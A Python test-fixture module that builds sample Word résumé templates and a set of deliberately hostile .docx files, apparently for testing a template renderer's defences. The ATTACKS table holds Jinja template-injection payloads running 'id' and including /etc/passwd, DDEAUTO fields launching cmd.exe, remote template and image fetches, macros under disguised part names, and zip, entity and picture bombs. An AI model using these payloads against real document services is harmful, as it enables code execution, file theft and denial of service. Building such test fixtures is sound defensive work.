"""Résumé templates made the way people make them in Word, and files that were made to do harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping

from docx import Document
from docx.document import Document as WordDocument
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Inches, Pt, RGBColor
from docx.text.paragraph import Paragraph

_DRAWING = (
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:v="urn:schemas-microsoft-com:vml"'
)


def written(document: WordDocument) -> bytes:
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def of_paragraphs(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return written(document)


def tables_layout() -> bytes:
    """Two columns in a table: a shaded side bar with bullets, and the sections, each entry a row of its own."""
    document = _with_margins(0.7)
    head = document.add_table(rows=1, cols=1, style="Table Grid")
    head.cell(0, 0).paragraphs[0].add_run("{{ name|upper }}").bold = True
    head.cell(0, 0).add_paragraph("{{r contact_line }}")
    outer = document.add_table(rows=1, cols=2)
    side, main = outer.rows[0].cells
    side.width, main.width = Inches(2.2), Inches(4.9)
    side.paragraphs[0].add_run("Skills").bold = True
    for text in ("{%p for s in skills %}", "{{ s.name }}{% if s.detail %}: {{ s.detail }}{% endif %}", "{%p endfor %}"):
        side.add_paragraph(text, style="List Bullet" if "s.name" in text else None)
    main.paragraphs[0].add_run("Education").bold = True
    rows = main.add_table(rows=3, cols=2)
    for row, texts in zip(
        rows.rows,
        (("{%tr for e in education %}", ""), ("{{ e.title }}, {{ e.place }}", "{{ e.dates }}"), ("{%tr endfor %}", "")),
        strict=True,
    ):
        for cell, text in zip(row.cells, texts, strict=True):
            cell.text = text
    return written(document)


def text_boxes() -> bytes:
    """Name and contact in a text box, which Word writes twice: for itself and for old versions."""
    document = _with_margins(1)
    document.add_paragraph()._p.append(parse_xml(_text_box("{{ name }}", "{{ email }}")))
    document.add_heading("Experience", level=1)
    for text in (
        "{%p for e in us_clinical %}",
        "{{ e.title }} — {{ e.place }} ({{ e.dates }})",
        "{%p for line in e.details %}",
        "{{ line }}",
        "{%p endfor %}",
        "{%p endfor %}",
    ):
        document.add_paragraph(text, style="List Bullet" if text == "{{ line }}" else None)
    return written(document)


def split_and_quoted() -> bytes:
    """Tags that Word has cut into runs while somebody typed, with the quotes it makes round by itself."""
    document = _with_margins(1)
    _in_runs(document.add_paragraph(), "{", "{ na", "me", " }", "}", bold=True)
    _in_runs(document.add_paragraph(), "{%p fo", "r e in educ", "ation %}")
    _in_runs(
        document.add_paragraph(), "{{ e[", "‘title’", "] }}{% if e.place != “", "” %}, {{ e.pl", "ace }}{% end", "if %}"
    )
    _in_runs(document.add_paragraph(), "{%p end", "for %}")
    _in_runs(document.add_paragraph(), "Skills: {{\u00a0skills|map(attribute=“name”)", "|join(‘, ’)\u00a0}}")
    return written(document)


def header_and_footer() -> bytes:
    """The name and the way to reach its owner at the top of every page, page numbers at the foot."""
    document = _with_margins(1)
    section = document.sections[0]
    section.header.paragraphs[0].add_run("{{ name }}").bold = True
    section.header.add_paragraph("{{r contact_line }}")
    foot = section.footer.paragraphs[0]
    foot.add_run("{{ name }} — page ")
    _field(foot, "PAGE")
    for text in ("{%p if summary %}", "Summary", "{%p endif %}", "{%p for p in summary %}", "{{ p }}", "{%p endfor %}"):
        document.add_paragraph(text)
    return written(document)


def content_controls() -> bytes:
    """As Word's own résumé templates: the name in a content control that is bound to another part of the file."""
    document = _with_margins(1)
    control = parse_xml(
        f'<w:sdt {nsdecls("w")}><w:sdtPr><w:alias w:val="Your name"/><w:dataBinding w:xpath="/name" '
        'w:storeItemID="{00000000-0000-0000-0000-000000000000}"/><w:text/></w:sdtPr><w:sdtContent><w:p><w:r>'
        "<w:t>{{ name }}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    document.element.body.insert(0, control)
    table = document.add_table(rows=3, cols=1)
    for row, text in zip(table.rows, ("{%tr for e in memberships %}", "{{ e.title }}", "{%tr endfor %}"), strict=True):
        row.cells[0].text = text
    cell = document.add_table(rows=1, cols=1).cell(0, 0)
    cell.text = "{%p for e in awards %}"
    cell.add_paragraph("{{ e.title }}")
    cell.add_paragraph("{%p endfor %}")
    return written(document)


def mistaken_names() -> bytes:
    """A template with two slips of the pen and a name of somebody else's program."""
    return of_paragraphs(
        "{{ nmae }}",
        "E-mail: {{ email_address }}",
        "{%p for e in education %}",
        "{{ e.titel }}, {{ e.place }}",
        "{%p endfor %}",
    )


MADE: Mapping[str, Callable[[], bytes]] = {
    "columns in a table, bullets in cells": tables_layout,
    "text boxes": text_boxes,
    "split runs, typographic quotes": split_and_quoted,
    "tags in header and footer": header_and_footer,
    "content controls, lists in cells": content_controls,
    "mistakes in names": mistaken_names,
}


def with_parts(docx: bytes, changed: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name in dict.fromkeys([*source.namelist(), *changed]):
            target.writestr(name, changed[name] if name in changed else source.read(name))
    return stream.getvalue()


def part(docx: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        return archive.read(name)


def with_external(kind: str, target: str) -> bytes:
    """A sound template that refers to something outside the file."""
    document = Document()
    document.add_paragraph("{{ name }}")
    document.part.relate_to(target, f"{RELATIONSHIP_TYPE.IMAGE.rpartition('/')[0]}/{kind}", is_external=True)
    return written(document)


def with_field(*pieces: str) -> bytes:
    """A field whose instruction Word has in so many pieces."""
    document = Document()
    _field(document.add_paragraph("{{ name }}"), *pieces)
    return written(document)


def with_hidden_field() -> bytes:
    """A field that counts pages until a tag leaves out the first half of its instruction."""
    document = Document()
    document.add_paragraph("{{ name }}")
    paragraph = document.add_paragraph()
    for xml in (
        '<w:fldChar w:fldCharType="begin"/>',
        "<w:t>{% if name == 'never' %}</w:t>",
        '<w:instrText xml:space="preserve"> PAGE </w:instrText>',
        "<w:t>{% endif %}</w:t>",
        '<w:instrText xml:space="preserve"> DDEAUTO cmd "/k calc" </w:instrText>',
        '<w:fldChar w:fldCharType="end"/>',
    ):
        paragraph._p.append(parse_xml(f"<w:r {nsdecls('w')}>{xml}</w:r>"))
    return written(document)


def with_macros() -> bytes:
    return with_parts(of_paragraphs("{{ name }}"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def zip_bomb() -> bytes:
    """Sixty megabytes of nothing in a small file."""
    return with_parts(of_paragraphs("{{ name }}"), {"word/media/image1.png": bytes(60 * 1024 * 1024)})


def entity_bomb() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{"&e" + str(n - 1) + ";" if n else "ha"}{"x" * 50}">' for n in range(9))
    docx = of_paragraphs("{{ name }}")
    xml = part(docx, "word/document.xml").replace(b"<w:document ", f"<!DOCTYPE w [{entities}]><w:document ".encode(), 1)
    return with_parts(docx, {"word/document.xml": xml.replace(b"{{ name }}", b"&e8;")})


def long_text(megabytes: float) -> bytes:
    return of_paragraphs("{{ name }}", "word " * int(megabytes * 200_000))


def nested_tables(depth: int) -> bytes:
    docx = of_paragraphs("{{ name }}", "here")
    inner = b"<w:p/>"
    opening, closing = b"<w:tbl><w:tblGrid/><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    xml = part(docx, "word/document.xml").replace(
        b"<w:sectPr", opening * depth + inner + closing * depth + b"<w:sectPr", 1
    )
    return with_parts(docx, {"word/document.xml": xml})


def of_many_runs(count: int) -> bytes:
    docx = of_paragraphs("{{ name }}")
    runs = b"<w:p>" + b"<w:r><w:t>x</w:t></w:r>" * count + b"</w:p><w:sectPr"
    return with_parts(docx, {"word/document.xml": part(docx, "word/document.xml").replace(b"<w:sectPr", runs, 1)})


def renamed(docx: bytes, old: str, new: str) -> bytes:
    """The file with a part under another name, wherever it is named; which opens in Word as before."""
    stream = io.BytesIO()
    old_end, new_end = (name.rpartition("/")[2] for name in (old, new))
    with zipfile.ZipFile(io.BytesIO(docx)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            contents = source.read(name)
            if name.endswith(".rels") or name == "[Content_Types].xml":
                contents = contents.replace(old_end.encode(), new_end.encode())
            target.writestr(name.replace(f"_rels/{old_end}.rels", f"_rels/{new_end}.rels").replace(old, new), contents)
    return stream.getvalue()


def with_related(kind: str, content_type: str) -> bytes:
    """A part under a harmless name; what it is says its relationship and its content type."""
    docx = of_paragraphs("{{ name }}")
    name = "media/image7.dat"
    relation = f'<Relationship Id="rId999" Type="{kind}" Target="{name}"/></Relationships>'
    override = f'<Override PartName="/word/{name}" ContentType="{content_type}"/></Types>'
    relations, types = part(docx, "word/_rels/document.xml.rels"), part(docx, "[Content_Types].xml")
    return with_parts(
        docx,
        {
            "word/_rels/document.xml.rels": relations.replace(b"</Relationships>", relation.encode()),
            "[Content_Types].xml": types.replace(b"</Types>", override.encode()),
            f"word/{name}": b"\x01\x02 not to be told from a picture",
        },
    )


def with_runs(*runs: str) -> bytes:
    """A sound template with a paragraph of such runs."""
    document = Document()
    document.add_paragraph("{{ name }}")
    paragraph = document.add_paragraph()
    for xml in runs:
        paragraph._p.append(parse_xml(f"<w:r {nsdecls('w')}>{xml}</w:r>"))
    return written(document)


_BEGIN, _MIDDLE, _END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))


def with_field_of_a_field() -> bytes:
    """A field whose instruction is what another field prints."""
    inner = (_BEGIN, "<w:instrText> REF bm </w:instrText>", _MIDDLE, '<w:t>DDEAUTO cmd "/k calc"</w:t>', _END)
    return with_runs(_BEGIN, "<w:instrText> </w:instrText>", *inner, _MIDDLE, _END)


def with_header_field() -> bytes:
    document = Document()
    document.add_paragraph("{{ name }}")
    _field(document.sections[0].header.paragraphs[0], _DDE)
    return written(document)


def with_huge_picture() -> bytes:
    """A picture of one color, 60,000 points wide and high, in a file of 37 kB."""
    packer = zlib.compressobj(9)
    row = bytes(1 + 60_000 // 8)
    pixels = b"".join([*(packer.compress(row) for _ in range(60_000)), packer.flush()])
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)), (b"IDAT", pixels), (b"IEND", b""))
    png = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )
    document = Document()
    document.add_paragraph("{{ name }}")
    document.add_picture(io.BytesIO(png))
    return written(document)


def changed(docx: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """The file with a piece of a part exchanged; of all of it when ``old`` is empty."""
    before = part(docx, name)
    return with_parts(docx, {name: before.replace(old, new, 1) if old else new})


_DDE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DOUBLED = "{% set x = x ~ x %}"
ATTACKS: Mapping[str, Callable[[], bytes]] = {
    # the six of the list of pitfalls
    "attribute chain": lambda: of_paragraphs("{{ name.__class__.__mro__[1].__subclasses__() }}"),
    "range bomb": lambda: of_paragraphs("{% for i in range(10**9) %}x{% endfor %}"),
    "deep nesting": lambda: of_paragraphs("{% if name %}" * 900 + "x" + "{% endif %}" * 900),
    "zip bomb": zip_bomb,
    "macros": with_macros,
    "external picture": lambda: with_external("image", "http://203.0.113.9/picture.png"),
    # others
    "template from outside": lambda: with_external("attachedTemplate", "\\\\203.0.113.9\\share\\evil.dotm"),
    "link that starts a program": lambda: with_external("hyperlink", "file:///c:/windows/system32/calc.exe"),
    "DDE field": lambda: with_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
    "DDE field in pieces": lambda: with_field(" DD", "EAUTO cmd ", '"/k calc" '),
    "DDE field behind a tag": with_hidden_field,
    "product of nested loops": lambda: of_paragraphs(
        "".join(f"{{% for {letter} in skills %}}" for letter in "abcdefgh") + "x" + "{% endfor %}" * 8
    ),
    "multiplied text": lambda: of_paragraphs("{{ 'a' * 10**10 }}"),
    "doubled text": lambda: of_paragraphs("{% set x = name %}" + _DOUBLED * 40 + "{{ x }}"),
    "globals of a function": lambda: of_paragraphs("{{ lipsum.__globals__['os'].popen('id').read() }}"),
    "format string": lambda: of_paragraphs("{{ '{0.__class__.__init__.__globals__}'.format(name) }}"),
    "attribute by a filter": lambda: of_paragraphs("{{ name|attr('__class__') }}"),
    "macro that calls itself": lambda: of_paragraphs("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
    "padding filter": lambda: of_paragraphs("{{ name|center(10**9) }}"),
    "other file": lambda: of_paragraphs("{% include '/etc/passwd' %}"),
    "entities": entity_bomb,
    "deep brackets": lambda: of_paragraphs("{{ " + "(" * 20_000 + "name" + ")" * 20_000 + " }}"),
    "100,000 tags": lambda: of_paragraphs("{{r name }}" * 100_000),
    "100,000 tags that never close": lambda: of_paragraphs("{{r " * 100_000),
    "100,000 runs": lambda: of_many_runs(100_000),
    "5 MB of text": lambda: long_text(5),
    "3,000 nested tables": lambda: nested_tables(3_000),
    "picture that a drawing fetches": lambda: with_runs(
        f'<w:pict><v:shape {_DRAWING}><v:imagedata src="http://203.0.113.9/x.png"/></v:shape></w:pict>'
    ),
    # names of parts say nothing, and what they are counts
    "DDE field in a text of another name": lambda: renamed(with_field(_DDE), "word/document.xml", "word/text.dat"),
    "DDE field in a text in capitals": lambda: renamed(with_field(_DDE), "word/document.xml", "word/document.XML"),
    "DDE field in a header of another name": lambda: renamed(with_header_field(), "word/header1.xml", "word/head.dat"),
    "DDE field that was deleted": lambda: with_runs(_BEGIN, f"<w:delInstrText>{_DDE}</w:delInstrText>", _END),
    "field whose instruction is a field": with_field_of_a_field,
    "macros of another name": lambda: with_related(
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "application/octet-stream"
    ),
    "macros of another relationship": lambda: with_related(f"{_OFFICE}/image", "application/vnd.ms-office.vbaProject"),
    "object of another name": lambda: with_related(f"{_OFFICE}/oleObject", "image/png"),
    "package of another name": lambda: with_related(f"{_OFFICE}/package", "application/octet-stream"),
    "page of the web of another name": lambda: with_related(f"{_OFFICE}/aFChunk", "application/octet-stream"),
    # what is filled well and then stops a converter
    "styles that are none": lambda: changed(of_paragraphs("{{ name }}"), "word/styles.xml", b"", b"<x/>"),
    "properties that are none": lambda: changed(of_paragraphs("{{ name }}"), "docProps/core.xml", b"", b"<x/>"),
    "relations in a circle": lambda: changed(
        of_paragraphs("{{ name }}"), "word/_rels/document.xml.rels", b"styles.xml", b"document.xml"
    ),
    "type size of 5,000 digits": lambda: changed(
        of_paragraphs("{{ name }}"),
        "word/document.xml",
        b"<w:r>",
        b'<w:r><w:rPr><w:sz w:val="' + b"9" * 5_000 + b'"/></w:rPr>',
    ),
    "picture of 3.6 billion points": with_huge_picture,
}


def _with_margins(inches: float) -> WordDocument:
    document = Document()
    section = document.sections[0]
    section.left_margin = section.right_margin = Inches(inches)
    document.styles["Normal"].font.name = "Calibri"
    document.styles["Normal"].font.size = Pt(10.5)
    return document


def _in_runs(paragraph: Paragraph, *pieces: str, bold: bool = False) -> None:
    """Each piece a run of its own, with the mark of the spelling checker between them."""
    for number, text in enumerate(pieces):
        run = paragraph.add_run(text)
        run.bold = bold
        if number % 2:
            run.font.color.rgb = RGBColor(0x1F, 0x3A, 0x5F)
            run._r.addprevious(parse_xml(f'<w:proofErr {nsdecls("w")} w:type="spellStart"/>'))


def _field(paragraph: Paragraph, *pieces: str) -> None:
    for kind, texts in (("begin", ()), ("", pieces), ("separate", ()), ("end", ())):
        for child in _field_runs(kind, texts):
            paragraph.add_run()._r.append(child)


def _field_runs(kind: str, pieces: Iterable[str]) -> list[OxmlElement]:
    if kind:
        mark = OxmlElement("w:fldChar")
        mark.set(qn("w:fldCharType"), kind)
        return [mark]
    codes = []
    for text in pieces:
        code = OxmlElement("w:instrText")
        code.text = text
        codes.append(code)
    return codes


def _text_box(*lines: str) -> str:
    paragraphs = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    content = f"<w:txbxContent>{paragraphs}</w:txbxContent>"
    return (
        f'<w:r {nsdecls("w")} {_DRAWING}><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing>'
        '<wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="4000000" cy="700000"/>'
        '<wp:docPr id="1" name="Text Box 1"/><a:graphic>'
        '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
        '<wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr>'
        '<a:xfrm><a:off x="0" y="0"/><a:ext cx="4000000" cy="700000"/></a:xfrm>'
        f'<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr><wps:txbx>{content}</wps:txbx>'
        "<wps:bodyPr/></wps:wsp>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict>"
        f'<v:shape style="width:315pt;height:55pt"><v:textbox>{content}</v:textbox></v:shape></w:pict></mc:Fallback>'
        "</mc:AlternateContent></w:r>"
    )
